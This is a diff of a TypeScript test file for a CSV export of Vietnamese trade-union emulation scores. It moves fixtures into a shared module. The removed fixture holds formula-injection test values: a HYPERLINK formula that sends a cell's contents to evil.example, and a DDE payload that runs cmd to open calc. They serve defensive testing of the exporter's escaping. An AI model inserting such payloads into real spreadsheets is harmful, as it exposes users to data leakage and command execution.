@@ -1,13 +1,9 @@
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { renderScoreCsv } from '../../shared/views/score-csv';
-import type { ScoreRow, ScoreTableView } from '../../shared/views/score-export-model';
+import { AT_SUM, DEPUTY, HEAD, HYPERLINK, fixture, row } from '../fixtures/score-view';
 import { cleanText } from '../../shared/views/reminder-emails';
 
-const HEAD = 'Công đoàn Trường Đại học Văn hóa, Thể thao và Du lịch Thanh Hóa';
-const DEPUTY = 'Công đoàn Trường Cao đẳng Nghề Công nghiệp Thanh Hóa';
-const HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")';
-const AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0";
 const DANGEROUS_START = /^[=+\-@\t\r]/;
 
 /**
@@ -60,96 +56,6 @@ function parseCsv(text: string): string[][] {
   return records;
 }
 
-function row(p: Partial<ScoreRow> & Pick<ScoreRow, 'unitName'>): ScoreRow {
-  return {
-    points: {},
-    bonus: 0,
-    deductions: { total: 0, sources: '' },
-    total: 0,
-    rank: null,
-    bandLabel: '',
-    awardLabel: '',
-    note: '',
-    ...p,
-  };
-}
-
-/** The same six units as in score-workbook.test.ts: hostile names, a tie, one unit unregistered and given in NFD. */
-function fixture(overrides: Partial<ScoreTableView> = {}): ScoreTableView {
-  return {
-    clusterName: 'Cụm Thi đua số 5',
-    provinceUnionName: 'Công đoàn Viên chức tỉnh Thanh Hóa',
-    schoolYearLabel: '2021 - 2022',
-    planTitle: 'Kế hoạch hoạt động của Cụm Thi đua số 5 năm học 2021 - 2022',
-    groups: [
-      { id: 'to-chuc', shortTitle: 'Nhóm 1', maximum: 40 },
-      { id: 'chuyen-mon', shortTitle: 'Nhóm 2', maximum: 52.5 },
-      { id: 'phong-trao', shortTitle: 'Nhóm 3', maximum: 7.5 },
-    ],
-    bonusCap: 5,
-    rows: [
-      row({
-        unitName: HEAD,
-        points: { 'to-chuc': { self: 39, verified: 38.5 }, 'chuyen-mon': { self: 52, verified: 51 }, 'phong-trao': { self: 7.5, verified: 7 } },
-        bonus: 3,
-        total: 99.5,
-        rank: { position: 1, tied: false },
-        bandLabel: 'Xuất sắc',
-        awardLabel: 'Cờ thi đua',
-        note: 'Dẫn đầu Cụm',
-      }),
-      row({
-        unitName: HYPERLINK,
-        points: { 'to-chuc': { self: 38, verified: 37 }, 'chuyen-mon': { self: 50, verified: 49.5 }, 'phong-trao': { self: 7, verified: 7 } },
-        bonus: 2,
-        deductions: { total: 2, sources: 'Báo cáo sơ kết 06 tháng nộp muộn 3 ngày (2 điểm)' },
-        total: 93.5,
-        rank: { position: 2, tied: true },
-        bandLabel: 'Xuất sắc',
-        awardLabel: 'Bằng khen',
-      }),
-      row({
-        unitName: '+1',
-        points: { 'to-chuc': { self: 36, verified: 36 }, 'chuyen-mon': { self: 50, verified: 50 }, 'phong-trao': { self: 6.5, verified: 6.5 } },
-        bonus: 1,
-        total: 93.5,
-        rank: { position: 2, tied: true },
-        bandLabel: 'Xuất sắc',
-        awardLabel: 'Bằng khen',
-      }),
-      row({
-        unitName: AT_SUM,
-        points: { 'to-chuc': { self: 35, verified: 33 }, 'chuyen-mon': { self: 48, verified: 45 }, 'phong-trao': { self: 6, verified: 5 } },
-        deductions: { total: 5, sources: 'Báo cáo tổng kết năm học\nkhông nộp (5 điểm)' },
-        total: 78,
-        rank: { position: 4, tied: false },
-        bandLabel: 'Tốt',
-        note: '- Thiếu báo cáo tổng kết',
-      }),
-      row({
-        unitName: '-2',
-        points: { 'to-chuc': { self: 30, verified: null }, 'chuyen-mon': { self: 40, verified: null }, 'phong-trao': { self: 5, verified: null } },
-        total: 75,
-        rank: { position: 5, tied: false },
-        bandLabel: 'Khá',
-        note: 'Chưa thẩm định',
-      }),
-      row({
-        unitName: DEPUTY.normalize('NFD'),
-        note: 'Không đăng ký thi đua, không xét khen thưởng ("ngoài danh sách")',
-      }),
-    ],
-    isSample: true,
-    sampleNote: 'Mẫu, cần đối chiếu Hướng dẫn 40/HD-CĐVC',
-    signingPlaceDate: 'Thanh Hóa, ngày 30 tháng 6 năm 2022',
-    signatures: {
-      left: { titles: ['NGƯỜI LẬP BẢNG'], name: 'Nguyễn Thanh Tâm' },
-      right: { titles: ['TM. CỤM TRƯỞNG'], name: 'Trịnh Thị Thúy Khuyên' },
-    },
-    generatedAt: '2022-06-30T09:00:00+07:00',
-    ...overrides,
-  };
-}
 
 /** The bytes are a BOM, then CRLF-terminated records with no other CR or LF anywhere. */
 function expectCsvFraming(csv: string): string {
